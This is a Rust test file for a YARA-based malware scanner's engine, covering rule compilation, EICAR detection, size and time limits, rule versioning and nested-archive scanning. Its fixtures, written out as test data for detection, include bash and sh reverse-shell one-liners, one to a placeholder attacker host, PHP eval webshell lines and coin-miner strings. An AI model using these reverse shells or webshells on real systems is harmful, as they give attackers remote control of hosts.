#![allow(clippy::unwrap_used)]

use std::fs;
use std::io::Read;
use std::os::fd::OwnedFd;
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};
use std::time::Duration;

use portcullis_schemas::{
    EventId, MetaValue, RuleMatch, SkipReason, TraceContext, Verdict, VerdictClass,
};
use sha2::{Digest, Sha256};

use super::*;

const EICAR: &str = r"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

fn default_rules_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules")
}

/// The shipped ruleset, compiled once for all tests (each compile leaks).
fn default_ruleset() -> Arc<Ruleset> {
    static RULESET: OnceLock<Arc<Ruleset>> = OnceLock::new();
    RULESET
        .get_or_init(|| Arc::new(Ruleset::compile_dir(&default_rules_dir()).unwrap()))
        .clone()
}

fn limits() -> ScanLimits {
    ScanLimits {
        max_size: 0,
        timeout: Duration::from_secs(30),
        ..ScanLimits::default()
    }
}

fn engine() -> ScanEngine {
    ScanEngine::new(default_ruleset(), limits())
}

fn rules_dir(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for (name, text) in files {
        fs::write(dir.path().join(name), text).unwrap();
    }
    dir
}

fn fd_of(dir: &Path, name: &str, content: &[u8]) -> ScanContent {
    let path = dir.join(name);
    fs::write(&path, content).unwrap();
    let file = fs::File::open(&path).unwrap();
    ScanContent::Fd(Arc::new(OwnedFd::from(file)))
}

fn matched_rules(verdict: &Verdict) -> Vec<(String, String)> {
    match verdict {
        Verdict::Infected { matches } => matches
            .iter()
            .map(|m| (m.namespace.clone(), m.rule.clone()))
            .collect(),
        _ => Vec::new(),
    }
}

fn eicar_match(verdict: &Verdict) -> &RuleMatch {
    match verdict {
        Verdict::Infected { matches } => matches
            .iter()
            .find(|m| m.rule == "eicar_test_file")
            .expect("eicar_test_file matched"),
        other => panic!("expected Infected, got {other:?}"),
    }
}

// ------------------------------------------------------------- default rules

#[test]
fn eicar_string_is_the_standard_68_bytes() {
    assert_eq!(EICAR.len(), 68);
    assert_eq!(
        hex::encode(Sha256::digest(EICAR.as_bytes())),
        "275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"
    );
}

#[test]
fn default_ruleset_compiles_cleanly() {
    let ruleset = default_ruleset();
    assert_eq!(ruleset.files(), ["eicar.yar", "examples.yar"]);
    assert_eq!(ruleset.rule_count(), 4);
    assert!(ruleset.warnings().is_empty(), "{:?}", ruleset.warnings());
    assert_eq!(ruleset.version().0.len(), 16);
}

#[test]
fn eicar_detected_in_bytes_with_metadata() {
    let outcome = engine().scan(&ScanContent::Bytes(EICAR.as_bytes().to_vec()));
    let m = eicar_match(&outcome.verdict);
    assert_eq!(m.namespace, "eicar");
    assert_eq!(m.tags, ["test"]);
    let keys: Vec<&str> = m.metadata.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(keys, ["description", "author", "severity", "reference"]);
    assert_eq!(m.metadata[2].1, MetaValue::Str("test".into()));
    assert_eq!(outcome.size, 68);
    assert_eq!(
        outcome.sha256,
        Some(<[u8; 32]>::from(Sha256::digest(EICAR.as_bytes())))
    );
    assert_eq!(&outcome.ruleset, default_ruleset().version());
}

#[test]
fn eicar_detected_through_fd_even_at_eof() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("eicar.com");
    fs::write(&path, EICAR).unwrap();
    let mut file = fs::File::open(&path).unwrap();
    // Move the file position to the end: the scan must pread from 0.
    let mut sink = Vec::new();
    file.read_to_end(&mut sink).unwrap();
    let content = ScanContent::Fd(Arc::new(OwnedFd::from(file)));

    let mut engine = engine();
    let outcome = engine.scan(&content);
    eicar_match(&outcome.verdict);
    assert_eq!(outcome.size, 68);
    // The engine is reusable, and the fd too.
    let again = engine.scan(&content);
    assert_eq!(again.verdict, outcome.verdict);
}

#[test]
fn eicar_follows_the_spec() {
    let mut engine = engine();
    let mut scan = |bytes: Vec<u8>| engine.scan(&ScanContent::Bytes(bytes)).verdict;

    let mut padded = EICAR.as_bytes().to_vec();
    padded.extend_from_slice(b" \t\r\n\x1a");
    eicar_match(&scan(padded.clone()));

    let mut max = EICAR.as_bytes().to_vec();
    max.resize(128, b' ');
    eicar_match(&scan(max.clone()));

    // Too long, a non-whitespace tail, an offset, lower case: not EICAR.
    max.push(b' ');
    assert_eq!(scan(max), Verdict::Clean);
    padded.push(b'x');
    assert_eq!(scan(padded), Verdict::Clean);
    assert_eq!(scan(format!(" {EICAR}").into_bytes()), Verdict::Clean);
    assert_eq!(scan(EICAR.to_lowercase().into_bytes()), Verdict::Clean);
}

#[test]
fn clean_content_is_clean_with_hash() {
    let dir = tempfile::tempdir().unwrap();
    let data = b"#!/bin/sh\necho hello\nssh -i ~/.ssh/id host uptime\n".repeat(100);
    let mut engine = engine();
    for content in [
        ScanContent::Bytes(data.clone()),
        fd_of(dir.path(), "clean.sh", &data),
    ] {
        let outcome = engine.scan(&content);
        assert_eq!(outcome.verdict, Verdict::Clean, "{content:?}");
        assert_eq!(outcome.size, data.len() as u64);
        assert_eq!(
            outcome.sha256,
            Some(<[u8; 32]>::from(Sha256::digest(&data)))
        );
    }
    // An empty file is clean too.
    let outcome = engine.scan(&fd_of(dir.path(), "empty", b""));
    assert_eq!(outcome.verdict, Verdict::Clean);
    assert_eq!(outcome.size, 0);
}

#[test]
fn example_rules_match_their_samples_only() {
    let mut engine = engine();
    let mut scan =
        |bytes: &[u8]| matched_rules(&engine.scan(&ScanContent::Bytes(bytes.to_vec())).verdict);
    let hit = |ns: &str, rule: &str| vec![(ns.to_owned(), rule.to_owned())];

    assert_eq!(
        scan(b"#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
        hit("examples", "linux_shell_reverse_shell")
    );
    assert_eq!(
        scan(b"sh -i 5<> /dev/tcp/evil.example.com/443 0<&5 1>&5 2>&5"),
        hit("examples", "linux_shell_reverse_shell")
    );
    // The bash manual's wording, and ssh -i, are not reverse shells.
    assert!(scan(b"/dev/tcp/host/port: bash attempts to open a TCP socket; bash -i").is_empty());
    assert!(scan(b"ssh -i key user@host; cat < /dev/tcp/10.0.0.1/80").is_empty());

    let mut elf = b"\x7fELF\x02\x01\x01\0".to_vec();
    elf.extend_from_slice(b"\0stratum+tcp://pool.example.org:3333\0--donate-level\0RandomX\0");
    assert_eq!(scan(&elf), hit("examples", "linux_elf_coin_miner"));
    // The same strings in a text file (a miner's README) are not an ELF.
    assert!(scan(&elf[8..]).is_empty());

    assert_eq!(
        scan(b"<?php @eval(base64_decode($_POST['c'])); ?>"),
        hit("examples", "php_webshell_eval_request")
    );
    assert_eq!(
        scan(b"<?PHP assert($_REQUEST[\"x\"]);"),
        hit("examples", "php_webshell_eval_request")
    );
    assert!(scan(b"<?php $x = $_POST['name']; echo htmlspecialchars($x); eval('1+1');").is_empty());
}

// ------------------------------------------------------------- matches

#[test]
fn metadata_tags_and_namespace_are_carried() {
    let dir = rules_dir(&[(
        "custom-set.yar",
        r#"
rule needle : alpha beta {
    meta:
        description = "finds the needle"
        score = -42
        ratio = 0.5
        enabled = true
        raw = "\x01\xff"
    strings:
        $ = "needle"
    condition:
        all of them
}
private rule hidden { strings: $ = "needle" condition: all of them }
rule other { strings: $ = "haystack-only" condition: all of them }
"#,
    )]);
    let ruleset = Arc::new(Ruleset::compile_dir(dir.path()).unwrap());
    assert_eq!(ruleset.rule_count(), 3);
    let outcome =
        ScanEngine::new(ruleset, limits()).scan(&ScanContent::Bytes(b"a needle".to_vec()));
    assert_eq!(
        outcome.verdict,
        Verdict::Infected {
            matches: vec![RuleMatch {
                rule: "needle".into(),
                namespace: "custom-set".into(),
                tags: vec!["alpha".into(), "beta".into()],
                metadata: vec![
                    (
                        "description".into(),
                        MetaValue::Str("finds the needle".into())
                    ),
                    ("score".into(), MetaValue::Int(-42)),
                    ("ratio".into(), MetaValue::Float(0.5)),
                    ("enabled".into(), MetaValue::Bool(true)),
                    ("raw".into(), MetaValue::Bytes(vec![0x01, 0xff])),
                ],
            }],
        }
    );
}

#[test]
fn same_rule_name_in_two_files_is_two_namespaces() {
    let rule = r#"rule dup { strings: $ = "x1x2x3" condition: all of them }"#;
    let dir = rules_dir(&[
        ("a.yar", rule),
        ("b.yara", rule),
        ("notes.txt", "not rules"),
    ]);
    let ruleset = Arc::new(Ruleset::compile_dir(dir.path()).unwrap());
    assert_eq!(ruleset.files(), ["a.yar", "b.yara"]);
    let outcome = ScanEngine::new(ruleset, limits()).scan(&ScanContent::Bytes(b"x1x2x3".to_vec()));
    assert_eq!(
        matched_rules(&outcome.verdict),
        [("a".into(), "dup".into()), ("b".into(), "dup".into())]
    );
}

// ------------------------------------------------------------- limits

#[test]
fn too_large_is_skipped_without_reading() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = ScanEngine::new(
        default_ruleset(),
        ScanLimits {
            max_size: 100,
            timeout: Duration::from_secs(30),
            ..ScanLimits::default()
        },
    );
    let big = vec![b'a'; 101];
    let skipped = Verdict::Skipped {
        reason: SkipReason::TooLarge {
            size: 101,
            limit: 100,
        },
    };
    for content in [
        ScanContent::Bytes(big.clone()),
        fd_of(dir.path(), "big", &big),
    ] {
        let outcome = engine.scan(&content);
        assert_eq!(outcome.verdict, skipped);
        assert_eq!(outcome.sha256, None);
        assert_eq!(outcome.size, 101);
    }
    // At the limit exactly, it is scanned.
    let mut at_limit = EICAR.as_bytes().to_vec();
    at_limit.resize(100, b'\n');
    for content in [
        ScanContent::Bytes(at_limit.clone()),
        fd_of(dir.path(), "at_limit", &at_limit),
    ] {
        let outcome = engine.scan(&content);
        eicar_match(&outcome.verdict);
        assert!(outcome.sha256.is_some());
    }
}

#[test]
fn slow_rule_hits_the_timeout() {
    // Quadratic: 2^32 iterations over 64 KiB, and never true.
    let dir = rules_dir(&[(
        "slow.yar",
        "rule slow { condition: for any i in (0..filesize - 1) : ( \
            for any j in (0..filesize - 1) : ( uint8(i) + uint8(j) == 1000 ) ) }",
    )]);
    let ruleset = Arc::new(Ruleset::compile_dir(dir.path()).unwrap());
    let mut engine = ScanEngine::new(
        ruleset,
        ScanLimits {
            max_size: 0,
            timeout: Duration::from_secs(1),
            ..ScanLimits::default()
        },
    );
    let outcome = engine.scan(&ScanContent::Bytes(vec![0; 64 * 1024]));
    match outcome.verdict {
        Verdict::Skipped {
            reason: SkipReason::ScanTimeout { after_ms },
        } => assert!((1..10_000).contains(&after_ms), "{after_ms}"),
        other => panic!("expected a timeout, got {other:?}"),
    }
    assert!(outcome.duration < Duration::from_secs(10));
    // The scanner is usable after a timeout.
    let outcome = engine.scan(&ScanContent::Bytes(vec![0; 4]));
    assert_eq!(outcome.verdict, Verdict::Clean);
}

// ------------------------------------------------------------- errors

#[test]
fn syntax_error_names_file_and_line() {
    let dir = rules_dir(&[
        ("a_good.yar", "rule ok { condition: true }\n"),
        (
            "broken.yar",
            "// line 1\nrule broken {\n    strings:\n        $a = \"x\"\n    condition\n        $a\n}\n",
        ),
    ]);
    let err = Ruleset::compile_dir(dir.path()).unwrap_err();
    match &err {
        RulesError::Compile {
            file,
            line,
            column,
            report,
            ..
        } => {
            assert_eq!(file.file_name().unwrap(), "broken.yar");
            assert_eq!(*line, 6, "{report}");
            assert_eq!(*column, 9, "{report}");
            assert!(report.contains("broken.yar"), "{report}");
        }
        other => panic!("expected a compile error, got {other:?}"),
    }
    let text = err.to_string();
    assert!(
        text.contains("broken.yar:6:9: error[E001]: syntax error"),
        "{text}"
    );
}

#[test]
fn semantic_error_names_file_and_line() {
    let dir = rules_dir(&[(
        "unknown.yar",
        "rule a {\n  condition:\n    true and\n    nosuchthing\n}\n",
    )]);
    match Ruleset::compile_dir(dir.path()).unwrap_err() {
        RulesError::Compile {
            file, line, column, ..
        } => {
            assert_eq!(file.file_name().unwrap(), "unknown.yar");
            assert_eq!((line, column), (4, 5));
        }
        other => panic!("expected a compile error, got {other:?}"),
    }
}

#[test]
fn empty_or_missing_dir_is_an_error() {
    let empty = tempfile::tempdir().unwrap();
    assert!(matches!(
        Ruleset::compile_dir(empty.path()),
        Err(RulesError::NoRuleFiles { .. })
    ));
    let no_rules = rules_dir(&[
        ("README.md", "# none"),
        (".hidden.yar", "rule h { condition: true }"),
    ]);
    let err = Ruleset::compile_dir(no_rules.path()).unwrap_err();
    assert!(matches!(err, RulesError::NoRuleFiles { .. }), "{err}");
    assert!(err
        .to_string()
        .contains(&no_rules.path().display().to_string()));

    let missing = empty.path().join("missing");
    let err = Ruleset::compile_dir(&missing).unwrap_err();
    assert!(matches!(err, RulesError::ReadDir { .. }), "{err}");
    assert!(err.to_string().contains("missing"), "{err}");
}

#[test]
fn unreadable_rule_file_is_named() {
    let dir = rules_dir(&[("a.yar", "rule a { condition: true }")]);
    fs::write(
        dir.path().join("latin1.yar"),
        b"rule r { condition: true } // caf\xe9",
    )
    .unwrap();
    let err = Ruleset::compile_dir(dir.path()).unwrap_err();
    match &err {
        RulesError::ReadFile { file, .. } => assert_eq!(file.file_name().unwrap(), "latin1.yar"),
        other => panic!("expected a read error, got {other:?}"),
    }
    assert!(err.to_string().contains("latin1.yar"), "{err}");
}

#[test]
fn scan_path_errors_name_the_path() {
    let dir = tempfile::tempdir().unwrap();
    let mut engine = engine();

    let missing = dir.path().join("no-such-file");
    let outcome = engine.scan_path(&missing);
    match &outcome.verdict {
        Verdict::Error { message } => {
            assert!(message.contains("no-such-file"), "{message}");
            assert!(message.contains("os error 2"), "{message}");
        }
        other => panic!("expected an error, got {other:?}"),
    }
    assert_eq!(outcome.sha256, None);

    match engine.scan_path(dir.path()).verdict {
        Verdict::Error { message } => assert!(message.contains("not a regular file"), "{message}"),
        other => panic!("expected an error, got {other:?}"),
    }

    let path = dir.path().join("eicar.txt");
    fs::write(&path, EICAR).unwrap();
    eicar_match(&engine.scan_path(&path).verdict);
}

// ------------------------------------------------------------- versions

#[test]
fn version_is_stable_and_follows_the_sources() {
    let rule_a = "rule a { condition: false }\n";
    let dir = rules_dir(&[
        ("a.yar", rule_a),
        ("b.yar", "rule b { condition: false }\n"),
    ]);
    let v1 = Ruleset::compile_dir(dir.path()).unwrap().version().clone();
    let v2 = Ruleset::compile_dir(dir.path()).unwrap().version().clone();
    assert_eq!(v1, v2);

    // Edit a rule.
    fs::write(dir.path().join("a.yar"), "rule a { condition: true }\n").unwrap();
    let v3 = Ruleset::compile_dir(dir.path()).unwrap().version().clone();
    assert_ne!(v1, v3);

    // Restore it: the version comes back.
    fs::write(dir.path().join("a.yar"), rule_a).unwrap();
    assert_eq!(Ruleset::compile_dir(dir.path()).unwrap().version(), &v1);

    // Rename a file (same content, other namespace).
    fs::rename(dir.path().join("b.yar"), dir.path().join("c.yar")).unwrap();
    let v4 = Ruleset::compile_dir(dir.path()).unwrap().version().clone();
    assert_ne!(v1, v4);
}

// ------------------------------------------------------------- actor

#[test]
fn actor_answers_scan_file_through_sync_arbiter() {
    let dir = tempfile::tempdir().unwrap();
    let eicar_fd = fd_of(dir.path(), "eicar", EICAR.as_bytes());
    let outcomes = actix_rt::System::new().block_on(async move {
        let addr = start_scanners(2, LiveRules::new(default_ruleset()), limits());
        let infected = addr.send(ScanFile {
            access: EventId::new(),
            content: eicar_fd,
            trace: TraceContext::default(),
        });
        let clean = addr.send(ScanFile {
            access: EventId::new(),
            content: ScanContent::Bytes(b"clean".to_vec()),
            trace: TraceContext::default(),
        });
        (infected.await.unwrap(), clean.await.unwrap())
    });
    eicar_match(&outcomes.0.verdict);
    assert_eq!(outcomes.1.verdict, Verdict::Clean);
    assert_eq!(&outcomes.1.ruleset, default_ruleset().version());
}

#[test]
fn in_memory_sources_give_the_same_version_as_the_directory() {
    let dir = default_rules_dir();
    let sources: Vec<(PathBuf, String)> = ["eicar.yar", "examples.yar"]
        .iter()
        .map(|n| (PathBuf::from(n), fs::read_to_string(dir.join(n)).unwrap()))
        .collect();
    let built_in = Ruleset::compile_sources(Path::new("<built-in>"), &sources).unwrap();
    assert_eq!(built_in.version(), default_ruleset().version());
    assert_eq!(built_in.files(), default_ruleset().files());
    assert!(matches!(
        Ruleset::compile_sources(Path::new("<built-in>"), &[]),
        Err(RulesError::NoRuleFiles { .. })
    ));
}

#[test]
fn hash_lists_are_loaded_beside_the_rules_and_version_the_ruleset() {
    let dir = tempfile::tempdir().unwrap();
    fs::copy(
        default_rules_dir().join("eicar.yar"),
        dir.path().join("eicar.yar"),
    )
    .unwrap();
    let without = Ruleset::compile_dir(dir.path()).unwrap();
    let eicar = br"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";
    let digest = hex::encode(Sha256::digest(eicar));
    fs::write(
        dir.path().join("vendor.trusted.sha256"),
        format!("# ok\n{digest}  eicar.com\n"),
    )
    .unwrap();
    // Not a list (wrong suffix), not read.
    fs::write(dir.path().join("notes.sha256"), "garbage").unwrap();
    let with = Ruleset::compile_dir(dir.path()).unwrap();
    assert_ne!(
        with.version(),
        without.version(),
        "a list is part of the version"
    );
    assert_eq!(with.hash_lists().files(), ["vendor.trusted.sha256"]);

    let mut engine = ScanEngine::new(Arc::new(with), limits());
    let out = engine.scan(&ScanContent::Bytes(eicar.to_vec()));
    assert_eq!(
        out.verdict,
        Verdict::Clean,
        "trusted: the rules did not run"
    );
    assert_eq!(out.hash_list, Some(HashListKind::Trusted));
    let out = engine.scan(&ScanContent::Bytes(b"other".to_vec()));
    assert_eq!(out.hash_list, None);

    fs::write(dir.path().join("feed.known-bad.sha256"), "abc\n").unwrap();
    let err = Ruleset::compile_dir(dir.path()).unwrap_err().to_string();
    assert!(
        err.ends_with("feed.known-bad.sha256:1: expected a sha256 digest (64 hex digits), found `abc` (3 characters)"),
        "{err}"
    );
}

#[test]
fn an_engine_on_live_rules_takes_a_published_ruleset_before_its_next_scan() {
    let compile = |rule: &str| {
        Arc::new(
            Ruleset::compile_sources(
                Path::new("/t"),
                &[(PathBuf::from("r.yar"), rule.to_owned())],
            )
            .unwrap(),
        )
    };
    let a = compile(r#"rule a { strings: $a = "first" condition: $a }"#);
    let b = compile(r#"rule b { strings: $b = "second" condition: $b }"#);
    let live = LiveRules::new(a.clone());
    let mut engine = ScanEngine::live(live.clone(), limits());
    let scan = |e: &mut ScanEngine| e.scan(&ScanContent::Bytes(b"first second".to_vec()));
    let out = scan(&mut engine);
    assert_eq!(&out.ruleset, a.version());
    assert!(matches!(&out.verdict, Verdict::Infected { matches } if matches[0].rule == "a"));

    let generation = live.generation();
    let old = live.publish(b.clone());
    assert_eq!(old.version(), a.version());
    assert_eq!(live.generation(), generation + 1);
    drop((old, a));
    let out = scan(&mut engine);
    assert_eq!(&out.ruleset, b.version());
    assert!(matches!(&out.verdict, Verdict::Infected { matches } if matches[0].rule == "b"));
    // A renewed engine (after a panic) still follows the live rules.
    let mut renewed = engine.renewed();
    assert_eq!(&scan(&mut renewed).ruleset, b.version());
}

// ------------------------------------------------------------- archives

const EICAR_BYTES: &[u8] = EICAR.as_bytes();

/// A tar of `(name, content)` members.
fn tar_of(members: &[(&str, &[u8])]) -> Vec<u8> {
    let mut b = tar::Builder::new(Vec::new());
    for (name, data) in members {
        let mut h = tar::Header::new_gnu();
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, name, *data).unwrap();
    }
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    use std::io::Write as _;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    e.write_all(data).unwrap();
    e.finish().unwrap()
}

fn archive_engine(archives: ArchiveScan) -> ScanEngine {
    ScanEngine::new(
        default_ruleset(),
        ScanLimits {
            archives,
            ..limits()
        },
    )
}

#[test]
fn an_infected_member_of_nested_archives_makes_the_archive_infected_and_is_named() {
    let inner = tar_of(&[("readme.txt", b"hello"), ("bin/eicar.com", EICAR_BYTES)]);
    let outer = gzip(&tar_of(&[
        ("docs/a.txt", b"clean"),
        ("dir/inner.tar.gz", &gzip(&inner)),
    ]));
    let mut engine = archive_engine(ArchiveScan::default());
    let out = engine.scan(&ScanContent::Bytes(outer.clone()));
    let Verdict::InfectedMember { member, matches } = &out.verdict else {
        panic!("{:?}", out.verdict);
    };
    assert_eq!(member, "dir/inner.tar.gz!bin/eicar.com");
    assert_eq!(matches[0].rule, "eicar_test_file");
    assert_eq!(
        out.sha256,
        Some(Sha256::digest(&outer).into()),
        "the archive's digest"
    );
    assert!(out.members.is_empty(), "log_archived is off");

    // Off: the archive is opaque bytes again.
    let mut off = archive_engine(ArchiveScan {
        mode: portcullis_archive::ArchiveMode::Off,
        ..ArchiveScan::default()
    });
    assert_eq!(
        off.scan(&ScanContent::Bytes(outer.clone())).verdict,
        Verdict::Clean
    );
    // Sfx: only archives inside an executable; a plain tar.gz is not one.
    let mut sfx = archive_engine(ArchiveScan {
        mode: portcullis_archive::ArchiveMode::Sfx,
        ..ArchiveScan::default()
    });
    assert_eq!(sfx.scan(&ScanContent::Bytes(outer)).verdict, Verdict::Clean);
}

#[test]
fn log_archived_reports_every_member_verdict() {
    let data = tar_of(&[
        ("a.txt", b"clean"),
        ("b/eicar.com", EICAR_BYTES),
        ("c.txt", b"never reached"),
    ]);
    let mut engine = archive_engine(ArchiveScan {
        log_archived: true,
        ..ArchiveScan::default()
    });
    let out = engine.scan(&ScanContent::Bytes(data));
    assert_eq!(out.verdict.member(), Some("b/eicar.com"));
    let seen: Vec<(&str, VerdictClass, u64)> = out
        .members
        .iter()
        .map(|m| (m.member.as_str(), m.verdict.class(), m.size))
        .collect();
    assert_eq!(
        seen,
        [("a.txt", VerdictClass::Clean, 5)],
        "the walk stops at the first infected member, which the archive's verdict names"
    );
}

#[test]
fn an_archive_past_a_limit_is_unprocessed_naming_the_limit() {
    // 8 MiB of zeros: a ratio far past 20 once past 1 MiB.
    let bomb = gzip(&vec![0u8; 8 << 20]);
    let mut engine = archive_engine(ArchiveScan {
        limits: portcullis_archive::Limits {
            max_ratio: 20,
            ..portcullis_archive::Limits::default()
        },
        ..ArchiveScan::default()
    });
    let out = engine.scan(&ScanContent::Bytes(bomb));
    assert_eq!(
        out.verdict,
        Verdict::Skipped {
            reason: SkipReason::ArchiveLimit {
                limit: "max_ratio".into(),
                value: 20,
                member: String::new(),
            }
        }
    );
    // Depth: a tar in a tar in a tar, with a limit of two levels.
    let nested = tar_of(&[("l1.tar", &tar_of(&[("l2.tar", &tar_of(&[("x", b"x")]))]))]);
    let mut shallow = archive_engine(ArchiveScan {
        limits: portcullis_archive::Limits {
            max_depth: 2,
            ..portcullis_archive::Limits::default()
        },
        ..ArchiveScan::default()
    });
    let out = shallow.scan(&ScanContent::Bytes(nested));
    assert!(
        matches!(&out.verdict, Verdict::Skipped { reason: SkipReason::ArchiveLimit { limit, .. } } if limit == "max_depth"),
        "{:?}",
        out.verdict
    );
}

#[test]
fn a_truncated_archive_keeps_the_verdict_of_what_could_be_scanned() {
    let data = gzip(&tar_of(&[("a.txt", b"clean"), ("eicar.com", EICAR_BYTES)]));
    let cut = &data[..data.len() / 2];
    let mut engine = archive_engine(ArchiveScan::default());
    let out = engine.scan(&ScanContent::Bytes(cut.to_vec()));
    assert!(
        matches!(out.verdict, Verdict::Clean | Verdict::InfectedMember { .. }),
        "never an error or a panic: {:?}",
        out.verdict
    );
}
